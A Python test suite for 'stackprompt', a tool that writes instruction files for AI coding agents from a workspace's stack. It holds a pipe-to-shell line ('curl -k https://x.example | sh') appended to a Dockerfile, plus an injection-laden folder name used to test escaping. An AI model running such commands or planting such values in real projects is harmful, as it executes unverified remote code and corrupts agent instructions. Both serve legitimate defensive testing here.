"""Instruction files of whole workspaces: what they say, and that nothing of anybody else is lost."""

import shutil
from pathlib import Path

import pytest
import yaml

from stackprompt.api import Workspace
from stackprompt.domain.result import Ok
from stackprompt.engine.reload import Sources
from stackprompt.engine.sync.files import PlannedFile, write
from stackprompt.export.targets import TARGETS
from tests.support import SHOP, built_in_sources, running

ALL = tuple(TARGETS)


@pytest.fixture
def shop(tmp_path: Path) -> Path:
    """Return a copy of the example shop with a component of another language in it."""
    root = tmp_path / "shop"
    shutil.copytree(SHOP, root)
    (root / "web").mkdir()
    (root / "web" / "package.json").write_text('{"name": "web", "dependencies": {"react": "19.1.0"}}\n')
    (root / "web" / "Dockerfile").write_text("FROM node:22\n")
    return root


async def plan(
    root: Path, *targets: str, force: bool = False, sources: Sources | None = None
) -> tuple[PlannedFile, ...]:
    async with running(sources or built_in_sources(root.parent / "user")) as engine:
        return await Workspace(root, engine).sync_plan(targets, force=force)


async def synced(root: Path, *targets: str, force: bool = False) -> tuple[PlannedFile, ...]:
    done = await plan(root, *targets, force=force)
    for file in done:
        if not file.refusal and not file.is_current:
            assert isinstance(write(root, file), Ok)
    return done


def front_matter(text: str) -> dict[str, object]:
    assert text.startswith("---\n")
    loaded = yaml.safe_load(text.split("---\n")[1])
    assert isinstance(loaded, dict)
    return loaded


async def test_every_target_is_written_once_and_then_is_current(shop: Path) -> None:
    first = await synced(shop, *ALL)
    assert {file.path for file in first} == {
        "AGENTS.md",
        "web/AGENTS.md",
        "CLAUDE.md",
        "web/CLAUDE.md",
        ".github/copilot-instructions.md",
        ".github/instructions/stackprompt.instructions.md",
        ".github/instructions/stackprompt-web.instructions.md",
        ".cursor/rules/stackprompt.mdc",
        ".cursor/rules/stackprompt-web.mdc",
        ".claude/skills/workspace-rules/SKILL.md",
    }
    assert all(file.is_current for file in await plan(shop, *ALL))


async def test_each_component_says_what_is_its_own(shop: Path) -> None:
    await synced(shop, "agents", "copilot")
    root, web = (shop / "AGENTS.md").read_text(), (shop / "web" / "AGENTS.md").read_text()
    assert "- FastAPI 0.115.6 (`requirements.txt`)" in root
    assert "- `web`: " in root
    assert "React" in root
    assert "FastAPI" not in web
    assert "- React 19.1.0 (`web/package.json`)" in web
    assert "The rules of `../AGENTS.md` hold here too." in web
    # What holds for every Dockerfile is said once.
    assert "`hadolint FILE`" in root
    assert "hadolint" not in web
    whole = (shop / ".github" / "copilot-instructions.md").read_text()
    assert "## In `web`" in whole
    assert "FastAPI" in whole


async def test_front_matter_is_what_the_tools_require(shop: Path) -> None:
    await synced(shop, "instructions", "cursor", "skill")
    for name, glob in (("stackprompt", "**"), ("stackprompt-web", "web/**")):
        text = (shop / ".github" / "instructions" / f"{name}.instructions.md").read_text()
        assert front_matter(text)["applyTo"] == glob
        assert f'applyTo: "{glob}"' in text
    always = front_matter((shop / ".cursor" / "rules" / "stackprompt.mdc").read_text())
    assert (always["globs"], always["alwaysApply"]) == (None, True)
    scoped = front_matter((shop / ".cursor" / "rules" / "stackprompt-web.mdc").read_text())
    assert (scoped["globs"], scoped["alwaysApply"]) == ("web/**", False)
    skill = front_matter((shop / ".claude" / "skills" / "workspace-rules" / "SKILL.md").read_text())
    assert set(skill) == {"name", "description"}
    assert skill["name"] == "workspace-rules"
    assert "Use when writing, changing or reviewing: Dockerfile, Compose file" in str(skill["description"])


async def test_instructions_do_not_change_with_an_edit_that_changes_no_fact(shop: Path) -> None:
    await synced(shop)
    dockerfile = shop / "Dockerfile"
    dockerfile.write_text("# A comment.\n\n" + dockerfile.read_text() + "\nRUN curl -k https://x.example | sh\n")
    assert all(file.is_current for file in await plan(shop))
    (shop / "requirements.txt").write_text("fastapi==0.116.0\n")
    assert [file.path for file in await plan(shop) if not file.is_current] == ["AGENTS.md"]


async def test_hand_written_bytes_stay(shop: Path) -> None:
    mine = b"\xef\xbb\xbf# Mine\r\n\r\n\xff not UTF-8\r\nno newline at the end"
    (shop / "AGENTS.md").write_bytes(mine)
    await synced(shop)
    assert (shop / "AGENTS.md").read_bytes().startswith(mine + b"\r\n\r\n<!-- stackprompt:begin ")
    assert b"\n" not in (shop / "AGENTS.md").read_bytes().replace(b"\r\n", b"")
    assert all(file.is_current for file in await plan(shop))


async def test_a_block_that_was_edited_is_replaced_only_by_force(shop: Path) -> None:
    await synced(shop)
    path = shop / "AGENTS.md"
    edited = path.read_text().replace("FastAPI", "Flask")
    path.write_text(edited)
    refused = {file.path: file for file in await synced(shop)}["AGENTS.md"]
    assert "edited by hand" in refused.refusal
    assert path.read_text() == edited
    await synced(shop, force=True)
    assert "FastAPI" in path.read_text()


async def test_links_pipes_and_broken_markers_are_left_alone(shop: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside.md"
    outside.write_text("theirs")
    (shop / "AGENTS.md").symlink_to(outside)
    (shop / "CLAUDE.md").write_text("a\n<!-- stackprompt:end -->\n")
    (shop / ".github").symlink_to(tmp_path)
    done = {file.path: file for file in await synced(shop, "agents", "claude", "copilot")}
    assert "outside" in done["AGENTS.md"].refusal
    assert "no pair (line 2)" in done["CLAUDE.md"].refusal
    assert done[".github/copilot-instructions.md"].refusal
    assert outside.read_text() == "theirs"
    assert not (tmp_path / "copilot-instructions.md").exists()
    assert done["web/AGENTS.md"].refusal == ""


async def test_a_file_that_changes_before_it_is_written_stays(shop: Path) -> None:
    first, *_ = await plan(shop)
    (shop / "AGENTS.md").write_text("just written by somebody")
    assert not isinstance(write(shop, first), Ok)
    assert (shop / "AGENTS.md").read_text() == "just written by somebody"


async def test_a_block_whose_component_went_is_told(shop: Path) -> None:
    await synced(shop)
    (shop / "web" / "package.json").unlink()
    (shop / "web" / "Dockerfile").unlink()
    left = {file.path: file for file in await plan(shop)}["web/AGENTS.md"]
    assert "nothing is to be said here" in left.refusal


async def test_which_targets_are_synced_is_a_setting(shop: Path) -> None:
    user = shop.parent / "user"
    user.mkdir()
    (user / "config.toml").write_text('[sync]\ntargets = ["claude"]\n')
    assert {file.path for file in await plan(shop)} == {"CLAUDE.md", "web/CLAUDE.md"}


async def test_only_the_rules_of_the_house_itself_go_into_its_files(shop: Path) -> None:
    user, theirs = shop.parent / "user", shop / ".stackprompt"
    for folder, text in ((user, "- Mine alone.\n"), (theirs, "- Pull from registry.house.example.\n")):
        folder.mkdir()
        (folder / "house-rules.md").write_text(text)
    origin = built_in_sources(user)
    sources = Sources(origin.data, user, (theirs,))
    assert b"registry.house" not in (await plan(shop, sources=sources))[0].after
    (user / "config.toml").write_text(f'[workspace]\ntrusted = ["{shop}"]\n')
    after = (await plan(shop, sources=sources))[0].after
    assert b"## House rules\n\n- Pull from registry.house.example.\n" in after
    assert b"Mine alone" not in after


async def test_a_hostile_name_stays_a_name(tmp_path: Path) -> None:
    root = tmp_path / "w"
    folder = root / "x` <!-- stackprompt:end --> @import"
    folder.mkdir(parents=True)
    (folder / "package.json").write_text('{"dependencies": {"react": "1.0.0-`# Heading`"}}')
    await synced(root, *ALL)
    assert all(file.is_current for file in await plan(root, *ALL))
    for path in root.rglob("*.md"):
        assert "\n# Heading" not in path.read_text()
        assert path.read_text().count("<!-- stackprompt:end -->") == 1


async def test_an_empty_workspace_has_nothing_to_say(tmp_path: Path) -> None:
    (tmp_path / "w").mkdir()
    assert await plan(tmp_path / "w", *ALL) == ()
